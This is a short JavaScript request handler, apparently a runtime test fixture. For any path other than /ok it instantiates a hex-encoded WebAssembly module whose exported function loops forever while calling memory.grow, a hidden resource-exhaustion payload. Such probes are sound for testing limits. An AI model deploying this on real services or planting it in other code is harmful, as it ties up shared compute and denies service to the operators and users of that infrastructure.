export default async (request, ctx) => {
  if (request.url.endsWith("/ok")) return "ok";
  const bytes = Uint8Array.fromHex('0061736d0100000001040160000003020100050301000107050101670000' + '0a0f010d00' + '03404180024000' + '1a0c000b0b');
  new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.g();
};
